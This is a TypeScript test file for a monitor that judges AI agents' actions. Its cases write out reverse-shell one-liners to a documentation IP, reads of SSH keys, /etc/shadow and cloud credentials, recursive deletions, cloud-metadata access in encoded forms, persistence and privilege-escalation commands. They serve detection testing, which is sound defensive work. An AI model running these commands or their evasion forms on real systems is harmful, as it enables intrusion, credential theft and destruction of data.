/** Every rule fires, in every disguise we know of, and leaves ordinary work alone. */
import { describe, expect, it } from 'vitest';
import type { Action } from '../../src/activity.ts';
import { RULES } from '../../src/rules/index.ts';
import { activity, connect, exec, HOME, read, remove, scopeOf, session, told, WORK, write } from './activities.ts';

const sh = (text: string): Action => exec('/usr/bin/dash', '-c', text);
const dns = (name: string, ...addresses: readonly string[]): Action => ({ kind: 'dns', name, addresses });
const unix = (address: string): Action => ({ kind: 'connect', protocol: 'unix', address });
const rename = (path: string, to: string): Action => ({ kind: 'rename', path, to });

describe('one activity', () => {
  it.each<[string, string, Action]>([
    // Keys
    ['a private key', 'KILL ssh-keys', read(`${HOME}/.ssh/id_ed25519`)],
    ['the folder itself', 'KILL ssh-keys', read(`${HOME}/.ssh`)],
    ["somebody else's", 'KILL ssh-keys', read('/root/.ssh/config')],
    ['through dots', 'KILL ssh-keys', read(`${WORK}/src/../../.ssh//./config`)],
    ['through the root of a process', 'KILL ssh-keys', read(`/proc/self/root/proc/123/root${HOME}/.ssh/config`)],
    ['through the folder of a process', 'KILL ssh-keys', read('/proc/self/cwd/../.ssh/config')],
    ['through a link', 'KILL ssh-keys', read(`${WORK}/notes.txt`, `${HOME}/.ssh/id_rsa`)],
    ['a link of that name', 'KILL ssh-keys', read(`${HOME}/.ssh/x`, '/tmp/x')],
    ['a copy elsewhere', 'KILL ssh-keys', read('/tmp/backup/id_rsa.bak')],
    ['moved away', 'KILL ssh-keys', rename(`${HOME}/.ssh/id_rsa`, '/tmp/x')],
    ['a key for others', 'KILL ssh-keys', write(`${HOME}/.ssh/authorized_keys`)],
    ['a public key elsewhere', 'SAFE', read(`${WORK}/keys/id_rsa.pub`)],
    ['a test key of a package', 'SAFE', read(`${WORK}/node_modules/ssh2/test/fixtures/id_rsa`)],
    ['code about keys', 'SAFE', read(`${WORK}/src/parse_id_rsa.ts`)],
    ['a name that only begins so', 'SAFE', read(`${HOME}/.sshrc-notes`)],
    // Secrets
    ['credentials of a cloud', 'FLAG secret-read', read(`${HOME}/.aws/credentials`)],
    ['shadow', 'FLAG secret-read', read('/etc/shadow')],
    ["another process's environment", 'FLAG secret-read', read('/proc/1/environ')],
    ['its own environment', 'SAFE', read('/proc/100/environ')],
    ['a token of the registry', 'FLAG secret-read', read(`${HOME}/.npmrc`)],
    ['certificates', 'SAFE', read('/etc/ssl/certs/ca-certificates.crt')],
    // Settings of agents
    ['settings of openclaw', 'KILL client-config', write(`${HOME}/.openclaw/openclaw.json`)],
    ['written anew by renaming', 'KILL client-config', rename('/tmp/new.json', `${HOME}/.openclaw/openclaw.json`)],
    ['Claude Desktop', 'KILL client-config', write(`${HOME}/.config/Claude/claude_desktop_config.json`)],
    ['Claude Code', 'KILL client-config', write(`${HOME}/.claude.json`)],
    ['VS Code', 'KILL client-config', write(`${HOME}/.config/Code/User/mcp.json`)],
    ['Codex', 'KILL client-config', write(`${HOME}/.codex/config.toml`)],
    ['Gemini', 'KILL client-config', write(`${HOME}/.gemini/settings.json`)],
    ['Windsurf', 'KILL client-config', write(`${HOME}/.codeium/windsurf/mcp_config.json`)],
    ['Zed', 'KILL client-config', write(`${HOME}/.config/zed/settings.json`)],
    ['of a project', 'KILL client-config', write(`${WORK}/.cursor/mcp.json`)],
    ['only read', 'SAFE', read(`${HOME}/.openclaw/openclaw.json`)],
    // Writing
    ['a write in the workspace', 'SAFE', write(`${WORK}/src/a.ts`)],
    ['in a cache', 'SAFE', write(`${HOME}/.npm/_cacache/tmp/x`)],
    ['in a temporary folder', 'SAFE', write('/tmp/x')],
    ['to nowhere', 'SAFE', write('/dev/null')],
    ['elsewhere', 'HALT write-outside', write(`${HOME}/documents/x`)],
    ['beside the workspace', 'HALT write-outside', write(`${WORK}-other/x`)],
    ['beside the temporary folder', 'HALT write-outside', write('/tmpx/y')],
    ['through a link out', 'HALT write-outside', { kind: 'write', path: `${WORK}/out/x`, resolved: '/srv/x' }],
    ['what was there deleted elsewhere', 'HALT write-outside', remove(`${HOME}/documents/x`)],
    ['what it made itself deleted elsewhere', 'SAFE', remove(`${HOME}/documents/x`, false)],
    // Removal
    ['of the home', 'KILL recursive-removal', exec('rm', '-rf', HOME)],
    ['of a folder elsewhere', 'KILL recursive-removal', exec('rm', '-fr', '/srv/data')],
    ['with options apart', 'KILL recursive-removal', exec('rm', '-f', '-v', '-R', '/srv/data')],
    ['with a long option', 'KILL recursive-removal', exec('rm', '--recursive', '/srv/data')],
    ['with a shortened option', 'KILL recursive-removal', exec('rm', '--rec', '/srv/data')],
    ['behind the options', 'KILL recursive-removal', exec('rm', '/srv/data', '-rf')],
    ['through dots out of the temporary folder', 'KILL recursive-removal', exec('rm', '-rf', '/tmp/../srv')],
    ['upwards', 'KILL recursive-removal', exec('rm', '-rf', '../..')],
    ['by a wrapper', 'KILL recursive-removal', exec('env', 'A=1', 'nice', 'rm', '-rf', '/srv')],
    ['by the loader', 'KILL recursive-removal', exec('/lib64/ld-linux-x86-64.so.2', '--argv0', 'ls', '/usr/bin/rm', '-rf', '/srv')],
    ['by the loader of another library', 'KILL recursive-removal', exec('/lib/ld-musl-x86_64.so.1', '/usr/bin/rm', '-rf', '/srv')],
    ['by a shell', 'KILL recursive-removal', sh('cd / && rm -rf /srv/*')],
    ['by busybox', 'KILL recursive-removal', exec('busybox', 'rm', '-rf', '/srv')],
    ['under another name', 'KILL recursive-removal', { kind: 'exec', exe: '/usr/bin/rm', argv: ['ls', '-rf', '/srv'] }],
    ['by find', 'KILL recursive-removal', exec('find', '/srv', '-type', 'f', '-delete')],
    ['by find and rm', 'KILL recursive-removal', exec('find', '/srv', '-exec', 'rm', '{}', '+')],
    ['of the whole workspace', 'KILL recursive-removal', exec('rm', '-rf', WORK)],
    ['of build output', 'SAFE', exec('rm', '-rf', 'dist', 'coverage')],
    ['of packages', 'SAFE', sh('rm -rf node_modules && npm ci')],
    ['in a temporary folder', 'SAFE', exec('rm', '-rf', '/tmp/x')],
    ['of one file', 'SAFE', exec('rm', '-f', 'src/a.ts')],
    ['a file called so', 'SAFE', exec('cat', 'rm', '-rf', '/srv')],
    // Transfer
    ['curl', 'HALT transfer-tool', exec('curl', 'https://example.com/x')],
    ['wget by busybox', 'HALT transfer-tool', exec('busybox', 'wget', 'http://example.com')],
    ['in a shell behind a wrapper', 'HALT transfer-tool', sh('timeout 5 curl -s example.com')],
    ['under another name', 'HALT transfer-tool', { kind: 'exec', exe: '/usr/bin/curl', argv: ['node', 'https://example.com'] }],
    ['to this host', 'SAFE', exec('curl', '-sf', 'http://localhost:3000/health')],
    ['to this host by way of a proxy', 'HALT transfer-tool', exec('curl', '-x', 'http://evil.example:80', 'http://localhost/')],
    ['to this host and another', 'HALT transfer-tool', exec('curl', 'http://localhost/', 'evil.example.com/x')],
    ['to a host that sounds like this one', 'HALT transfer-tool', exec('curl', 'http://localhost.evil.example/')],
    ['to this host, following where it points', 'HALT transfer-tool', exec('curl', '-sL', 'http://localhost/')],
    // Metadata
    ['metadata', 'HALT cloud-metadata', connect(undefined, '169.254.169.254', 80)],
    ['mapped', 'HALT cloud-metadata', connect(undefined, '::ffff:169.254.169.254', 80)],
    ['mapped in hexadecimal', 'HALT cloud-metadata', connect(undefined, '::ffff:a9fe:a9fe', 80)],
    ['translated', 'HALT cloud-metadata', connect(undefined, '64:ff9b::a9fe:a9fe', 80)],
    ['decimal', 'HALT cloud-metadata', connect('2852039166', undefined, 80)],
    ['hexadecimal', 'HALT cloud-metadata', connect('0xA9FEA9FE', undefined, 80)],
    ['octal', 'HALT cloud-metadata', connect('0251.0376.0251.0376', undefined, 80)],
    ['IPv6', 'HALT cloud-metadata', connect(undefined, 'fd00:ec2::254', 80)],
    ['IPv6 written out', 'HALT cloud-metadata', connect(undefined, 'FD00:0EC2:0:0:0:0:0:0254', 80)],
    ['by name', 'HALT cloud-metadata', connect('metadata.google.internal', undefined, 80)],
    ['by a name with a dot behind', 'HALT cloud-metadata', dns('Metadata.Google.Internal.')],
    ['by a name of somebody else', 'HALT cloud-metadata', dns('x.nip.io', '169.254.169.254')],
    ['on the command line', 'HALT cloud-metadata', exec('node', 'get.js', '--url=http://2852039166/latest')],
    ['an address close to it', 'SAFE', connect(undefined, '169.254.169.253', 80)],
    ['a number', 'SAFE', exec('node', 'x.js', '2852039166')],
    // Sockets
    ['docker', 'HALT container-socket', unix('/var/run/docker.sock')],
    ['podman of the user', 'HALT container-socket', unix('/run/user/1000/podman/podman.sock')],
    ['by an option', 'HALT container-socket', exec('docker', '-H', 'unix:///var/run/docker.sock', 'ps')],
    ['the socket of a database', 'SAFE', unix('/var/run/postgresql/.s.PGSQL.5432')],
    // Persistence
    ['a cron job', 'HALT persistence', write('/var/spool/cron/crontabs/u')],
    ['crontab', 'HALT persistence', exec('crontab', '/tmp/job')],
    ['looking at the crontab', 'SAFE', exec('crontab', '-l')],
    ['a start file of a shell', 'HALT persistence', write(`${HOME}/.bashrc`)],
    ['a git hook', 'HALT persistence', write(`${WORK}/.git/hooks/pre-commit`)],
    ['a git hook moved in', 'HALT persistence', rename(`${WORK}/x`, `${WORK}/.git/hooks/post-checkout`)],
    ['an example of one', 'SAFE', write(`${WORK}/.git/hooks/pre-commit.sample`)],
    ['a unit', 'HALT persistence', exec('systemctl', '--user', 'enable', 'x.service')],
    ['hooks for all', 'HALT persistence', exec('git', 'config', '--global', 'core.hooksPath', '/tmp/h')],
    ['hooks of one repository', 'SAFE', exec('git', 'config', 'core.hooksPath', '.husky')],
    // Rights
    ['sudo', 'HALT privilege', exec('sudo', 'ls')],
    ['doas in a shell', 'HALT privilege', sh('true; doas ls')],
    ['su', 'HALT privilege', exec('su', '-c', 'ls')],
    ['setuid', 'HALT privilege', exec('chmod', 'u+s', 'x')],
    ['setuid in octal', 'HALT privilege', exec('chmod', '4755', 'x')],
    ['an ordinary mode', 'SAFE', exec('chmod', '755', 'x')],
    ['an executable', 'SAFE', exec('chmod', '+x', 'x')],
    // Shells on the network
    ['a shell that connects', 'KILL reverse-shell', sh('bash -i >& /dev/tcp/203.0.113.5/4444 0>&1')],
    ['netcat', 'KILL reverse-shell', exec('nc', '-e', '/bin/sh', '203.0.113.5', '4444')],
    ['socat', 'KILL reverse-shell', exec('socat', 'TCP:203.0.113.5:4444', 'EXEC:/bin/sh')],
    [
      'python',
      'KILL reverse-shell',
      exec(
        'python3',
        '-c',
        'import socket,subprocess,os;s=socket.socket();s.connect(("203.0.113.5",1));os.dup2(s.fileno(),0);subprocess.call(["/bin/sh","-i"])',
      ),
    ],
    ['a port looked at', 'SAFE', exec('nc', '-z', 'localhost', '5432')],
    ['a python script', 'SAFE', exec('python3', '-c', 'print("socket")')],
    // Code from nowhere
    ['memory', 'KILL fileless-exec', { kind: 'exec', exe: '/memfd:x (deleted)', argv: ['x'] }],
    ['a descriptor', 'KILL fileless-exec', { kind: 'exec', exe: '/proc/self/fd/3', argv: ['x'] }],
    ['shared memory', 'KILL fileless-exec', { kind: 'exec', exe: '/dev/shm/x', argv: ['x'] }],
    ['a library in shared memory', 'KILL fileless-exec', { kind: 'load', path: '/dev/shm/x.so' }],
    ['an addon of a package', 'SAFE', { kind: 'load', path: `${WORK}/node_modules/x/build/x.node` }],
    ['put into others', 'HALT preload', exec('env', 'LD_PRELOAD=/tmp/x.so', 'ls')],
    // Others' memory
    ['of a stranger', 'HALT foreign-memory', { kind: 'memory', target: 999 }],
    ['its own', 'SAFE', { kind: 'memory', target: 100 }],
    ['by file', 'HALT foreign-memory', read('/proc/999/mem')],
    ['by debugger', 'HALT foreign-memory', exec('gdb', '-p', '999')],
    // Connections
    ['this host', 'SAFE', connect(undefined, '127.0.0.1', 8080)],
    ['this host in IPv6', 'SAFE', connect('localhost', '::1', 8080)],
    ['a registry', 'SAFE', connect('registry.example', '104.16.1.1')],
  ])('%s: %s', (_name, expected, action) => {
    expect(told(session().judge(action))).toBe(expected);
  });
});

it('every rule has an id of its own, and says what it may come to', () => {
  expect(new Set(RULES.map(({ id }) => id)).size).toBe(RULES.length);
  for (const { title, explanation, levels } of RULES) {
    expect(title.length).toBeGreaterThan(5);
    expect(explanation.length).toBeGreaterThan(20);
    expect(levels.length).toBeGreaterThan(0);
  }
});

it('own files are KILL, their side files and folders too; reading the configuration is a flag', () => {
  const own = { files: [`${WORK}/.countersign/ledger.db`, '/var/log/cs'], configs: [`${WORK}/countersign.yaml`], pids: [4242] };
  const { judge, engine } = session(undefined, { own });
  expect(told(judge(read(`${WORK}/.countersign/ledger.db-wal`)))).toBe('KILL own-files');
  // Nobody knows by whom: we write it all the time.
  const { actor: _, ...byNobody } = activity(write(`${WORK}/.countersign/ledger.db-wal`), { seq: 9, at: 1_700_000_000_000 });
  expect(told(engine.judge(byNobody))).not.toContain('own-files');
  expect(told(judge(read('/var/log/cs/2026/a.jsonl')))).toBe('KILL own-files');
  expect(told(judge(write(`${WORK}/countersign.yaml`)))).toBe('KILL own-files');
  expect(told(judge(rename(`${WORK}/x`, `${WORK}/countersign.yaml`)))).toBe('KILL own-files');
  expect(told(judge(read(`${WORK}/countersign.yaml`)))).toBe('FLAG own-files');
  expect(told(judge({ kind: 'memory', target: 4242 }))).toBe('KILL own-process');
  expect(told(judge(exec('kill', '-9', '4242')))).toBe('KILL own-process');
  expect(told(judge(sh('kill -STOP 4242')))).toBe('KILL own-process');
  expect(told(judge(read('/proc/4242/mem')))).toBe('KILL own-process');
  expect(told(judge(read('/proc/4242/maps')))).toBe('FLAG own-process');
  expect(told(judge(exec('kill', '-9', '4243')))).toBe('SAFE');
  expect(told(judge(read(`${WORK}/.countersign.md`)))).toBe('SAFE');
});

it('of what guards use too, the database is opened to read or to read and write: all else is KILL, whoever does it', () => {
  const ledger = `${WORK}/.countersign/ledger.db`;
  const sides = ['', '-wal', '-shm', '-journal'].map((side) => `${ledger}${side}`);
  const own = { shared: [...sides, '/var/log/cs/audit.log'], databases: sides };
  const { judge } = session(undefined, { own });
  expect(told(judge(read(ledger)))).toBe('HALT own-files');
  expect(told(judge(write(`${ledger}-wal`)))).toBe('HALT own-files');
  for (const by of ['truncate', 'overwrite', 'name'] as const) {
    for (const side of sides) {
      expect(told(judge({ kind: 'write', path: side, by }))).toBe('KILL own-files');
      expect(told(judge({ kind: 'write', path: `${WORK}/x`, resolved: side, by }))).toBe('KILL own-files');
    }
    // That is what writing to a log is.
    expect(told(judge({ kind: 'write', path: '/var/log/cs/audit.log', by }))).toBe('HALT own-files');
    expect(told(judge({ kind: 'write', path: `${ledger}.bak`, by }))).toBe('SAFE');
  }
  expect(told(judge({ kind: 'read', path: ledger, by: 'name' }))).toBe('KILL own-files');
});

describe('under a scope', () => {
  const NESTED = scopeOf(`
filesystem: { allowed_paths: ["/tmp/safe/**"], forbidden_paths: ["/tmp/secret/**", "/home/*/vault/**"], forbidden_extensions: [".pem"] }
network: { allowed_domains: [example.com], forbidden_domains: [evil.com], allowed_ports: [443] }
process: { allowed_commands: [python3, node], forbidden_commands: [scp, "rm -rf /"] }
behavior: { max_actions_per_minute: 1000 }`);

  it.each<[string, string, Action]>([
    ['allowed', 'SAFE', read('/tmp/safe/file.txt')],
    ['the folder itself, which the pattern does not name', 'FLAG outside-scope', read('/tmp/safe')],
    ['forbidden', 'KILL forbidden-path', read('/tmp/secret/x')],
    ['forbidden below a wildcard', 'KILL forbidden-path', read('/home/bob/vault/a/b')],
    ['forbidden by its ending', 'KILL forbidden-extension', read('/tmp/other/key.pem')],
    ['a CA bundle', 'KILL forbidden-extension', read('/etc/ssl/certs/ca.pem')],
    ['out by dots', 'KILL forbidden-path', read('/tmp/safe/../secret/x')],
    ['elsewhere', 'FLAG outside-scope', read('/usr/lib/x.so')],
    ['written elsewhere', 'HALT write-outside', write('/srv/x')],
    ['deleted elsewhere', 'FLAG outside-scope', remove('/srv/x')],
    ['a key of whoever', 'KILL ssh-keys', read('/some/path/id_rsa.pub')],
    ['removed outside of /tmp', 'KILL recursive-removal', exec('rm', '-rf', `${WORK}/dist`)],
    ['removed in /tmp', 'FLAG unknown-command', exec('rm', '-rf', '/tmp/x')],
    ['removed beside /tmp', 'KILL recursive-removal', exec('rm', '-rf', '/tmpdata')],
    ['a domain', 'SAFE', connect('api.example.com')],
    ['another port', 'FLAG unusual-port', connect('example.com', undefined, 8443)],
    ['a domain that ends the same', 'FLAG unknown-domain', connect('badexample.com')],
    ['forbidden domain', 'KILL forbidden-domain', connect('API.Evil.com.')],
    ['only looked up', 'FLAG forbidden-domain', dns('evil.com')],
    ['an address', 'FLAG unknown-domain', connect(undefined, '8.8.8.8')],
    ['this host', 'SAFE', connect('localhost', '127.0.0.1', 9)],
    ['this host by a forbidden name', 'SAFE', connect('evil.com', '127.0.0.1', 9)],
    ['a name that only says it is this host', 'FLAG unknown-domain', connect('localhost', '203.0.113.1')],
    ['a command', 'SAFE', exec('/usr/bin/python3.11', 'x.py')],
    ['another', 'FLAG unknown-command', exec('make')],
    ['another that goes by the name of one', 'FLAG unknown-command', { kind: 'exec', exe: '/tmp/safe/evil', argv: ['python3'] }],
    ['forbidden command', 'KILL forbidden-command', exec('/usr/bin/scp', 'a', 'b:')],
    ['behind a wrapper', 'KILL forbidden-command', exec('env', 'scp', 'a', 'b:')],
    ['in a shell', 'KILL forbidden-command', sh('true && scp a b:')],
    ['curl', 'HALT transfer-tool', exec('curl', 'http://localhost/')],
  ])('of the predecessor, %s: %s', (_name, expected, action) => {
    expect(told(session(NESTED).judge(action))).toBe(expected);
  });

  it('of the flat form, writes are forbidden and reads are not', () => {
    const { judge } = session(scopeOf('allow_read: ["/workspace/**"]\ndeny_write: ["/workspace/locked/**"]\ndeny_exec: [scp]'));
    expect(told(judge(read('/workspace/locked/x')))).toBe('SAFE');
    expect(told(judge(write('/workspace/locked/x')))).toBe('KILL forbidden-path');
    expect(told(judge(remove('/workspace/locked/x')))).toBe('KILL forbidden-path');
    expect(told(judge(rename('/workspace/x', '/workspace/locked/x')))).toBe('KILL forbidden-path');
    expect(told(judge(exec('scp')))).toBe('KILL forbidden-command');
  });

  it('of ours, CA bundles and packages may end as they like, and agents write their own settings', () => {
    const { judge } = session(
      scopeOf(
        'scope: { filesystem: { forbidden_extensions: [.pem], agent_files: ["~/.claude.json"], forbidden_paths: ["~/vault/**", private] } }',
      ),
    );
    expect(told(judge(read('/etc/ssl/certs/ca.pem')))).toBe('SAFE');
    expect(told(judge(read(`${WORK}/node_modules/x/a.pem`)))).toBe('SAFE');
    expect(told(judge(read(`${WORK}/a.pem`)))).toBe('KILL forbidden-extension');
    expect(told(judge(write(`${HOME}/.claude.json`)))).toBe('SAFE');
    expect(told(judge(read(`${HOME}/vault`)))).toBe('KILL forbidden-path');
    expect(told(judge(read(`${WORK}/private/x`)))).toBe('KILL forbidden-path');
    expect(told(judge(read(`${WORK}/privately`)))).toBe('SAFE');
  });

  it('of ours with allowed paths, programs may still start and everything else is told', () => {
    const { judge } = session(
      scopeOf('scope: { filesystem: { allowed_paths: ["~/project/**"] }, network: { allowed_domains: ["*.example.com"] } }'),
    );
    expect(told(judge(read('/usr/lib/libc.so.6')))).toBe('SAFE');
    expect(told(judge(read(`${HOME}/documents/x`)))).toBe('FLAG outside-scope');
    expect(told(judge(write(`${WORK}/x`)))).toBe('SAFE');
    expect(told(judge(write('/srv/x')))).toBe('HALT write-outside');
    expect(told(judge(connect('a.example.com', undefined, 8080)))).toBe('SAFE');
    expect(told(judge(connect('example.org')))).toBe('FLAG unknown-domain');
  });
});
